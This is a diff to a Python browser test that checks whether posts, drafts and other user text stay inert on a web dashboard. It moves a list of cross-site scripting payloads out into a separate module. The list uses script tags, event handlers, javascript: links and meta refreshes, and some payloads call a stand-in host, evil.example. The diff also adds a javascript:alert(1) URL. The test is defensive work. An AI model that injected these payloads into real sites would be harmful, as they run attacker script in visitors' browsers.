@@ -17,6 +17,7 @@ from core.models import Draft, Intent, Scores, TargetGroup, ThreadMessage
 from tests.fakes.ports.cards import POST, REVIEWED
 from tests.fakes.web.browsing import Dashboard, dashboard
 from tests.fakes.web.chromium import chromium, log_in, needs_chromium
+from tests.fakes.web.payloads import PAYLOADS, SHAPES
 
 pytestmark = needs_chromium
 
@@ -211,33 +212,16 @@ async def test_the_post_is_not_in_the_accessibility_tree_before_it_is_asked_for(
     assert "benefits" not in await page.title()
 
 
-def _payloads() -> list[str]:
-    """Texts that would act if one place forgot to escape them."""
-    acts = ("alert(1)", "document.body.dataset.ran=1", "fetch('https://evil.example')")
-    shapes = (
-        "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>",
-        "'><img src=x onerror={}>",
-        "<a href=\"javascript:{}\">here</a>", "</textarea><script>{}</script>", "</pre><script>{}</script>",
-        "</title><script>{}</script>", "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\">", "{{{{ {} }}}}",
-        "<div hx-get='/me' hx-trigger='load' hx-on:load={}>", "<form action=https://evil.example><button>{}</button></form>",
-        "<style>*{{background:url(https://evil.example)}}</style>{}", "<base href=https://evil.example>{}",
-        "<meta http-equiv=refresh content='0;url=https://evil.example'>{}", "<!--<script>{}</script>-->",
-        "&lt;script&gt;{}&lt;/script&gt;", "\u202e<script>{}</script>", "<math><mtext><img src=x onerror={}></math>",
-        "<details open ontoggle={}>", "<video><source onerror={}>", "<x style=animation-name:x onanimationstart={}>",
-    )  # fmt: skip
-    return [shape.format(act) for shape in shapes for act in acts]
-
-
 async def test_no_text_of_others_acts_anywhere(room: Room) -> None:
     """Posts, threads, names, drafts, sources and notes, on every page: inert, and the policy was never needed (T7)."""
-    desk, page, payloads = room.web.desk, room.tab.page, _payloads()
+    desk, page = room.web.desk, room.tab.page
     asked: list[str] = []
     page.on("request", lambda one: asked.append(one.url))
     await page.add_init_script(
         "document.addEventListener('securitypolicyviolation', e => console.error('CSP ' + e.violatedDirective))"
     )
-    for number, part in enumerate(range(0, len(payloads), 24)):
-        some = payloads[part : part + 24]
+    for number, part in enumerate(range(0, 3 * SHAPES, SHAPES)):
+        some = PAYLOADS[part : part + SHAPES]
         evil = "\n".join(some)
         source = replace(REVIEWED.evidence[0].source, title=evil[:300], url="javascript:alert(1)")
         like = replace(
